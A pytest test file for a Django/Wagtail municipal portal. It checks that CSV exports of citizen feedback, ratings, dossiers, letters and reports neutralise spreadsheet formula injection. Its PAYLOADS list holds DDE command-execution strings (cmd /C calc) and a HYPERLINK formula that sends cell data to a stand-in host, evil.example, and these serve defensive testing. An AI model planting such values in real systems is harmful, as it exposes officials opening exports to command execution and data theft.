"""CSV exports of the admin screens, from the attacker's side: what a citizen
types (a feedback name, a rating comment, an applicant's name at the counter,
a letter's recipient) must never run as a formula when an editor or the
district opens the export in a spreadsheet. Every ``CommuneScopedViewSet``
export goes through one rule: a cell starting with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return gets a leading ``'``."""

import csv
import io
from datetime import timedelta

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django_recaptcha.client import RecaptchaResponse

from contact.models import Feedback, Rating
from home.exports import neutralise as neutralise_csv_formula
from procedures.dossiers import save_dossier
from procedures.models import Dossier
from tests.factories import LetterFactory, ProcedureFactory

pytestmark = pytest.mark.django_db

HOST = {"HTTP_HOST": "voi.localhost"}
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def exported_cells(client, url_name: str) -> list[str]:
    response = client.get(reverse(url_name), {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_neutralised(cells: list[str], payload: str) -> None:
    assert payload not in cells, f"{payload!r} exported as a live formula"
    assert "'" + payload in cells, f"{payload!r} not found neutralised in {cells}"


@pytest.fixture
def district_client(district_admin, client_for):
    return client_for(district_admin)


@pytest.mark.parametrize("payload", PAYLOADS[:5])
def test_feedback_sent_by_a_citizen_cannot_plant_a_formula(
    payload, district_client, monkeypatch, communes
):
    monkeypatch.setattr(
        "django_recaptcha.fields.client.submit",
        lambda **kwargs: RecaptchaResponse(is_valid=True),
    )
    response = Client().post(
        "/gop-y/",
        {
            "kind": "gop_y",
            "subject": payload,
            "message": "Nội dung bình thường.",
            "name": payload,
            "email": "dan@example.com",
            "g-recaptcha-response": "ok",
        },
        **HOST,
    )
    assert response.status_code == 302, response.content.decode()[:500]
    assert Feedback.objects.get().name == payload  # stored as typed: nothing is lost
    cells = exported_cells(district_client, "feedback:index")
    assert_neutralised(cells, payload)


@pytest.mark.parametrize("payload", PAYLOADS[:3])
def test_a_rating_comment_cannot_plant_a_formula(payload, district_client):
    response = Client().post("/danh-gia/", {"level": "hai_long", "comment": payload}, **HOST)
    assert response.status_code == 302
    assert Rating.objects.get().comment == payload
    assert_neutralised(exported_cells(district_client, "ratings:index"), payload)


@pytest.mark.parametrize("payload", PAYLOADS[:3])
def test_an_applicants_name_cannot_plant_a_formula_in_the_dossier_register(
    payload, editor_a, client_for, communes
):
    today = timezone.localdate()
    save_dossier(
        Dossier(
            commune=communes["voi"],
            receipt_code="VOI-CSV-1",
            procedure_name="Đăng ký khai sinh",
            applicant_name=payload,
            received_on=today,
            appointment_date=today + timedelta(days=3),
        )
    )
    assert_neutralised(exported_cells(client_for(editor_a), "dossiers:index"), payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_letters_recipient_cannot_plant_a_formula_in_the_register(
    payload, editor_a, client_for, communes
):
    """Every payload, tab and carriage return included: forms strip those, a
    row written by an import or a command keeps them."""
    LetterFactory(commune=communes["voi"], recipient_name=payload, recipient_address=payload)
    assert_neutralised(exported_cells(client_for(editor_a), "letters:index"), payload)


def test_ordinary_values_are_exported_unchanged(district_client):
    Client().post("/danh-gia/", {"level": "hai_long", "comment": "Cán bộ tận tình"}, **HOST)
    cells = exported_cells(district_client, "ratings:index")
    assert "Cán bộ tận tình" in cells
    assert not any(cell.startswith("''") for cell in cells)


def test_xlsx_export_keeps_the_text_as_typed(district_client):
    """XLSX stores text cells as text (Wagtail turns formulas back into
    strings): the export shows exactly what the citizen typed."""
    from openpyxl import load_workbook

    Client().post("/danh-gia/", {"level": "hai_long", "comment": PAYLOADS[0]}, **HOST)
    response = district_client.get(reverse("ratings:index"), {"export": "xlsx"})
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    planted = [cell for cell in cells if cell.value == PAYLOADS[0]]
    assert planted and all(cell.data_type == "s" for cell in planted)


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ("+84912345678", "'+84912345678"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Nguyễn Văn A", "Nguyễn Văn A"),
        ("a=b", "a=b"),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_neutralise_csv_formula(value, expected):
    assert neutralise_csv_formula(value) == expected


def test_district_reports_neutralise_formulas_too(district_client):
    """The district's reports (Wagtail ReportViews) share the rule."""
    ProcedureFactory(name=PAYLOADS[0], last_reviewed=None)
    assert_neutralised(exported_cells(district_client, "procedures_not_reviewed"), PAYLOADS[0])
